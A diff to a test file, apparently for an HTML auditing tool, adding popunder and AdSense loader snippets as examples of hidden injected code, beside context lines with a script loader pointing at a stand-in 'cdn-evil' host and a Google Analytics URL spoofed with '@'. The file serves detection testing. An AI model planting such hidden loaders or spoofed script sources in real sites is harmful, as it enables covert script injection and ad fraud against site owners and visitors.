@@ -1565,6 +1565,15 @@ _EVIL_LOADER = ("var e=document.createElement('script');e.src='https://cdn-evil-
      _ga_snippet("https://www.google-analytics.com@cdn-evil-stat.example/analytics.js"), H),
     ("the snippet, protocol-relative", _ga_snippet("//www.google-analytics.com/analytics.js"),
      M),
+    # an ad network's own snippet hidden: how an injector hides the account it earns for
+    ("a hidden popunder tag", "var _pop=_pop||[];_pop.push(['siteId',1234567]);"
+     "_pop.push(['minBid',0]);(function(){var pa=document.createElement('script');"
+     "pa.async=true;pa.src='//c1.popads.net/pop.js';var s=document.getElementsByTagName("
+     "'script')[0];s.parentNode.insertBefore(pa,s);})();", H),
+    ("a hidden AdSense loader", "var s=document.createElement('script');s.async=true;"
+     "s.src='https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js?client=ca-pub-"
+     "1234567890123456';document.head.appendChild(s);(adsbygoogle=window.adsbygoogle||[])"
+     ".push({google_ad_client:'ca-pub-1234567890123456',enable_page_level_ads:true});", H),
 ])
 def test_hidden_code_that_is_a_vendors_own_snippet_is_checked_not_condemned(
         what: str, code: str, most: Severity, audit_html: AuditHtml) -> None:
